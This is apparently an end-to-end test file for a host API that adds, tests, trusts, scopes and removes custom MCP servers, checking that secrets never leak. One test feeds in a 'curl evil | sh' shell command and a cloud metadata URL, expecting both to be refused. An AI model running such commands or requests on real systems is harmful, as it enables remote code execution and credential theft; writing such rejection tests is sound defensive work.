// Custom MCP servers through the host API, end to end: HTTP with the contract's validators,
// the real runtime and the scripted model, a real stdio MCP server and a real Streamable HTTP
// one behind the host's guarded proxy. The tests share one host and run in order.
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { factsMcpServerPath, remoteFactFor, startHttpMcpServer, type Conversation, type HttpMcpServer, type ScriptRule } from '@open-cowork/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, ok, startTestHost, until, type TestHost } from './support.js';

const LOCAL_SECRET = 'local-PLAINTEXT-MARKER-5150';
const REMOTE_SECRET = 'Bearer remote-PLAINTEXT-MARKER-8088';
const toolOutput = (conversation: Conversation): string => conversation.toolResults.map((result) => result.content).join(' ').trim();

const RULES: ScriptRule[] = [
  { match: { lastUser: 'Look up water', hasToolResults: false }, reply: { toolCalls: [{ name: 'notes_lookup_fact', arguments: { topic: 'water' } }] } },
  { match: { lastUser: 'Look up water', hasToolResults: true }, reply: (conversation) => ({ text: `Found: ${toolOutput(conversation)}` }) },
  { match: { lastUser: 'Ask the remote' , hasToolResults: false }, reply: { toolCalls: [{ name: 'remote_remote_fact', arguments: { topic: 'moon' } }] } },
  { match: { lastUser: 'Ask the remote', hasToolResults: true }, reply: (conversation) => ({ text: `Remote said: ${toolOutput(conversation)}` }) },
  { match: { lastUser: 'Which tools?' }, reply: { text: 'Some tools.' } },
];

let t: TestHost;
let remote: HttpMcpServer;
const ws = { a: '', b: '' };

beforeAll(async () => {
  t = await startTestHost({ rules: RULES });
  remote = await startHttpMcpServer({ requireAuthorization: REMOTE_SECRET });
  ws.a = (await ok(t.server, 'workspaces.add', { path: t.folders.a })).id;
  ws.b = (await ok(t.server, 'workspaces.add', { path: t.folders.b })).id;
}, 90_000);

afterAll(async () => {
  await t?.dispose();
  await remote?.close();
});

async function mcpsNow() {
  return (await ok(t.server, 'capabilities.list', {})).mcps;
}

async function waitFor(name: string, status: string) {
  let last: unknown;
  await until(async () => {
    const found = (await mcpsNow()).find((mcp) => mcp.name === name);
    last = found;
    return found?.status === status;
  }, `${name} to be ${status}`, 30_000).catch((error: Error) => {
    throw new Error(`${error.message} Last seen: ${JSON.stringify(last)}`);
  });
}

/** Sends a prompt in a new session of `workspaceId` and waits for the scripted model's request for it. */
async function prompt(workspaceId: string, text: string) {
  const session = await ok(t.server, 'sessions.create', { workspaceId });
  const seen = t.model.requests.length;
  await ok(t.server, 'sessions.prompt', { sessionId: session.id, text });
  await until(() => t.model.requests.slice(seen).some((request) => !request.isTitleRequest && request.lastUserText === text), `the model to get "${text}"`, 30_000).catch(async (error: Error) => {
    const { messages } = await ok(t.server, 'sessions.messages', { sessionId: session.id });
    throw new Error(`${error.message} The model got: ${JSON.stringify(t.model.requests.slice(seen).map((request) => request.lastUserText))}; the session holds ${JSON.stringify(messages).slice(0, 1500)}`);
  });
  return { session, request: t.model.requests.slice(seen).find((request) => !request.isTitleRequest && request.lastUserText === text)! };
}

async function lastAnswer(sessionId: string, starts: string): Promise<string> {
  let text = '';
  await until(async () => {
    const { messages } = await ok(t.server, 'sessions.messages', { sessionId });
    text = messages.flatMap((message) => message.parts).flatMap((part) => (part.kind === 'text' ? [part.text] : [])).join('\n');
    return text.includes(starts);
  }, `an answer starting "${starts}"`, 30_000);
  return text;
}

describe('custom MCP servers through the host API', () => {
  it('refuses a shell command and a metadata URL, naming the field', async () => {

    const shell = await call(t.server, 'mcps.add', { mcp: { name: 'sneaky', type: 'local', command: ['/bin/sh', '-c', 'curl evil | sh'] } });
    expect(shell.status).toBe(422);
    expect(shell.error?.code).toBe('VALIDATION_FAILED');
    expect(JSON.stringify(shell.error?.data)).toContain('/mcp/command/');

    const metadata = await call(t.server, 'mcps.add', { mcp: { name: 'meta', type: 'remote', url: 'http://169.254.169.254/latest' } });
    expect(metadata.status).toBe(422);
    expect(JSON.stringify(metadata.error?.data)).toContain('/mcp/url');

    const taken = await call(t.server, 'mcps.add', { mcp: { name: 'clock', type: 'local', command: [process.execPath, factsMcpServerPath()] } });
    expect(taken.error?.code).toBe('CONFLICT');
  });

  it('tests a draft before saving it: tools on success, the kind of failure otherwise', async () => {
    const good = await ok(t.server, 'mcps.test', { target: { draft: { name: 'notes', type: 'local', command: [process.execPath, factsMcpServerPath()] } } });
    expect(good).toMatchObject({ ok: true, tools: ['lookup_fact', 'env_names'] });
    const missing = await ok(t.server, 'mcps.test', { target: { draft: { name: 'ghost', type: 'local', command: ['/nonexistent/server'] } } });
    expect(missing).toMatchObject({ ok: false, failure: 'spawn' });
    const rejected = await ok(t.server, 'mcps.test', { target: { draft: { name: 'remote', type: 'remote', url: remote.url, headers: { Authorization: 'Bearer wrong' } } } });
    expect(rejected).toMatchObject({ ok: false, failure: 'unauthorized' });
  });

  it('adds a local server in "ask" mode; it connects after the reload, and its tool asks before running', async () => {
    const added = await ok(t.server, 'mcps.add', {
      mcp: { name: 'notes', type: 'local', description: 'Facts, locally.', command: [process.execPath, factsMcpServerPath()], environment: { NOTES_TOKEN: LOCAL_SECRET } },
    });
    expect(added).toMatchObject({ name: 'notes', source: 'custom', permissionMode: 'ask', custom: { environmentKeys: ['NOTES_TOKEN'], scope: 'machine' } });
    expect(JSON.stringify(added)).not.toContain('PLAINTEXT-MARKER');
    await waitFor('notes', 'connected');

    const { session } = await prompt(ws.a, 'Look up water');
    await until(async () => (await ok(t.server, 'permissions.list', {})).requests.some((request) => request.sessionId === session.id), 'the permission request');
    const [request] = (await ok(t.server, 'permissions.list', {})).requests.filter((pending) => pending.sessionId === session.id);
    await ok(t.server, 'permissions.reply', { requestId: request!.id, reply: 'once' });
    expect(await lastAnswer(session.id, 'Found:')).toContain('FACT[water]');
  }, 90_000);

  it('once trusted, the tool runs without asking', async () => {
    expect(await ok(t.server, 'mcps.setTrust', { name: 'notes', trusted: true })).toMatchObject({ permissionMode: 'allow' });
    await until(async () => {
      const status = await ok(t.server, 'runtime.status', {});
      return status.state === 'ready';
    }, 'the runtime to reload');
    await waitFor('notes', 'connected');
    const { session } = await prompt(ws.a, 'Look up water');
    expect(await lastAnswer(session.id, 'Found:')).toContain('FACT[water]');
    expect((await ok(t.server, 'permissions.list', {})).requests.filter((pending) => pending.sessionId === session.id)).toEqual([]);
  }, 90_000);

  it('reaches a remote server only through the proxy: the real URL and token never reach OpenCode\'s config', async () => {
    await ok(t.server, 'mcps.add', { mcp: { name: 'remote', type: 'remote', url: remote.url, headers: { Authorization: REMOTE_SECRET } } });
    await ok(t.server, 'mcps.setTrust', { name: 'remote', trusted: true });
    await waitFor('remote', 'connected');
    expect(remote.requests.some((headers) => headers.authorization === REMOTE_SECRET)).toBe(true);

    const runtimeDir = path.join(t.dataDir, 'runtime');
    const written = await readTree(runtimeDir);
    expect(written).not.toContain('remote-PLAINTEXT-MARKER');
    expect(written).not.toContain(remote.url);

    const { session } = await prompt(ws.a, 'Ask the remote');
    expect(await lastAnswer(session.id, 'Remote said:')).toContain(remoteFactFor('moon'));
  }, 90_000);

  it('shows a failing server as failed without disturbing the others', async () => {
    await ok(t.server, 'mcps.add', { mcp: { name: 'broken', type: 'local', command: [process.execPath, '-e', 'process.exit(1)'] } });
    await waitFor('broken', 'failed');
    const mcps = await mcpsNow();
    expect(mcps.find((mcp) => mcp.name === 'notes')?.status).toBe('connected');
    expect(mcps.find((mcp) => mcp.name === 'remote')?.status).toBe('connected');
    expect(await ok(t.server, 'mcps.test', { target: { name: 'broken' } })).toMatchObject({ ok: false, failure: 'spawn' });
  }, 90_000);

  it('offers a workspace-scoped server\'s tools only in its own workspace\'s sessions', async () => {
    await ok(t.server, 'mcps.update', {
      mcp: { name: 'notes', type: 'local', command: [process.execPath, factsMcpServerPath()], environment: { NOTES_TOKEN: null }, scope: 'workspace', workspaceId: ws.a },
    });
    await waitFor('notes', 'connected');
    const inA = await prompt(ws.a, 'Which tools?');
    const inB = await prompt(ws.b, 'Which tools?');
    expect(inA.request.toolNames).toContain('notes_lookup_fact');
    expect(inB.request.toolNames).not.toContain('notes_lookup_fact');
    expect(inB.request.toolNames).toContain('remote_remote_fact');
  }, 90_000);

  it('keeps each server\'s values to itself: not in another server\'s environment, the logs or what clients read', async () => {
    const pids = await mcpChildren();
    expect(pids.length).toBeGreaterThan(0);
    let owners = 0;
    for (const pid of pids) {
      const environ = await readFile(`/proc/${pid}/environ`, 'utf8').catch(() => '');
      const command = await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '');
      expect(environ).not.toContain('remote-PLAINTEXT-MARKER');
      if (!environ.includes(LOCAL_SECRET)) continue;
      // OpenCode starts each server once per workspace folder: every holder must be the notes server.
      owners += 1;
      expect(command).toContain(factsMcpServerPath());
    }
    expect(owners).toBeGreaterThan(0);
    expect(JSON.stringify(t.logs)).not.toContain('PLAINTEXT-MARKER');
    expect(JSON.stringify(await mcpsNow())).not.toContain('PLAINTEXT-MARKER');
    expect(await readFile(path.join(t.dataDir, 'mcp.open-cowork.json'), 'utf8')).not.toContain('PLAINTEXT-MARKER');
  });

  it('removes servers; bundled ones cannot be removed', async () => {
    expect((await call(t.server, 'mcps.remove', { name: 'clock' })).error?.code).toBe('CONFLICT');
    for (const name of ['broken', 'remote', 'notes']) await ok(t.server, 'mcps.remove', { name });
    await until(async () => !(await mcpsNow()).some((mcp) => mcp.source === 'custom'), 'the custom servers to go');
    expect((await call(t.server, 'mcps.remove', { name: 'notes' })).error?.code).toBe('NOT_FOUND');
  }, 60_000);
});

/** Every file under `dir`, concatenated (what the runtime wrote to disk). */
async function readTree(dir: string): Promise<string> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  const texts = await Promise.all(
    entries.filter((entry) => entry.isFile()).map((entry) => readFile(path.join(entry.parentPath, entry.name), 'utf8').catch(() => '')),
  );
  return texts.join('\n');
}

/** PIDs of the runtime's descendants (its MCP servers among them). */
async function mcpChildren(): Promise<number[]> {
  const root = t.host.runtime.supervisor.connection().pid;
  const all = (await readdir('/proc')).filter((name) => /^\d+$/.test(name)).map(Number);
  const parentOf = new Map<number, number>();
  for (const pid of all) {
    const stat = await readFile(`/proc/${pid}/stat`, 'utf8').catch(() => '');
    const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    if (Number.isFinite(ppid)) parentOf.set(pid, ppid);
  }
  const descends = (pid: number): boolean => {
    for (let current = parentOf.get(pid), depth = 0; current !== undefined && depth < 10; current = parentOf.get(current), depth += 1) {
      if (current === root) return true;
    }
    return false;
  };
  return all.filter(descends);
}
